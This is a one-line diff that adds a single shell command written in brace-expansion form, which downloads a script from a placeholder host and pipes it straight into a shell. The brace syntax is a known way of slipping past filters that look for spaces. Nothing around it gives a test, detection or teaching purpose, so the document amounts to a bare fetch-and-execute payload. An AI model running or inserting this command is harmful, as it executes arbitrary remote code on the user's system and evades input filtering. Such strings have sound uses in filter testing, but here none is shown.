@@ -1,0 +1,1 @@
+{wget,-qO-,https://get.example.net/x}|{sh,-}
